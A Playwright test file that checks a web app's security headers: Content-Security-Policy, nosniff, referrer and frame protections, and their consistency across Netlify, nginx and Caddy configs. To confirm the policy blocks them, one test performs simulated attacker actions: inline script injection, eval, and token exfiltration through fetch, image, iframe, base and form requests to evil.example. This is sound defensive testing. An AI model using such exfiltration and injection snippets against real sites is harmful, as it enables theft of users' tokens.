// The page itself: what its headers forbid is forbidden, and a breach fails whichever test it happens in.

import { readFile } from "node:fs/promises";
import { type Server, createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { signIn } from "./support/sign-in";
import { expect, test } from "./support/test";

const DEPLOY = join(import.meta.dirname, "../../deploy");

const EXPECTED: Record<string, string> = {
  "Content-Security-Policy":
    "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self' blob: data:; " +
    "connect-src 'self' https: wss: http://127.0.0.1:* http://localhost:* ws://127.0.0.1:* ws://localhost:*; worker-src 'self'; base-uri 'none'; " +
    "form-action 'none'; frame-ancestors 'none'",
  "X-Content-Type-Options": "nosniff",
  "Referrer-Policy": "no-referrer",
  "Cross-Origin-Opener-Policy": "same-origin",
};

test("every file comes with the headers, and the three files for web servers say the same", async ({ panel, sim, room, home }) => {
  const answers: [string, Record<string, string>][] = [];
  panel.page.on("response", (response) => {
    if (response.url().startsWith(home)) answers.push([response.url(), response.headers()]);
  });
  await signIn(panel, sim, room);
  await expect.poll(() => answers.map(([url]) => url).join()).toMatch(/\.wasm.*\.js|\.js.*\.wasm/);
  for (const [url, headers] of answers) {
    for (const [name, value] of Object.entries(EXPECTED)) expect(headers[name.toLowerCase()], `${name} of ${url}`).toBe(value);
    expect(headers["permissions-policy"], url).toContain("camera=()");
  }

  const [netlify, nginx, caddy] = await Promise.all(
    ["_headers", "nginx.conf", "Caddyfile"].map((file) => readFile(join(DEPLOY, file), "utf8")),
  );
  const policy = /Permissions-Policy: (.*)/.exec(netlify)![1];
  for (const [name, value] of Object.entries({ ...EXPECTED, "Permissions-Policy": policy })) {
    expect(netlify).toContain(`${name}: ${value}\n`);
    expect(nginx).toContain(`add_header ${name} "${value}" always;`);
    expect(caddy).toContain(`${name} "${value}"\n`);
  }
});

test("what a thief would do is blocked, and the tests see that somebody tried", async ({ panel, sim, room, faults }) => {
  await signIn(panel, sim, room);
  const { page } = panel;
  const tried = async (directive: string, act: () => void) => {
    await page.evaluate(act);
    await expect.poll(() => faults.join("\n"), { message: directive }).toContain(`Content-Security-Policy: ${directive}`);
    faults.length = 0;
  };
  await tried("script-src-elem inline", () => {
    const script = document.createElement("script");
    script.textContent = "globalThis.stolen = true";
    document.body.append(script);
  });
  // Chromium may ask the policy only when the handler is to run.
  await tried("script-src-attr inline", () => {
    document.body.setAttribute("onclick", "globalThis.stolen = true");
    document.body.click();
  });
  // In a timer: what a test evaluates itself may.
  await tried("script-src eval", () => {
    const attempt = () => {
      try {
        new Function("globalThis.stolen = true")();
      } catch {
        // The policy's answer.
      }
    };
    setTimeout(attempt);
  });
  await tried("style-src-attr inline", () => document.body.setAttribute("style", "color: red"));
  await tried("img-src https://evil.example/", () => void (new Image().src = "https://evil.example/?token"));
  await tried("connect-src http://evil.example/", () => void fetch("http://evil.example/?token").catch(() => undefined));
  await tried("frame-src https://evil.example", () => {
    const frame = document.createElement("iframe");
    frame.src = "https://evil.example/";
    document.body.append(frame);
  });
  await tried("base-uri https://evil.example/", () => {
    const base = document.createElement("base");
    base.href = "https://evil.example/";
    document.head.append(base);
  });
  expect(await page.evaluate(() => (globalThis as { stolen?: boolean }).stolen)).toBeUndefined();
  await panel.live();
  // Last: the test's driver waits for where it would have led.
  await tried("form-action https://evil.example/", () => {
    const form = document.createElement("form");
    form.action = "https://evil.example/";
    document.body.append(form);
    form.submit();
  });
  // What the browser says besides is the same breaches in its own words.
  await expect.poll(() => faults.filter((fault) => !/Content.Security.Policy|Refused|violates/i.test(fault))).toEqual([]);
  faults.length = 0;
});

test("no other page can show it in a frame", async ({ panel, page, home }) => {
  void panel;
  const other: Server = createServer((_, answer) => {
    answer.setHeader("content-type", "text/html").end(`<iframe src="${home}" width="800" height="600"></iframe>`);
  });
  await new Promise<void>((listens) => other.listen(0, "127.0.0.1", listens));
  const stranger = await page.context().newPage();
  await stranger.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
  await expect.poll(() => stranger.frames()[1]?.url()).toBe("chrome-error://chromewebdata/");
  await stranger.close();
  other.close();
});
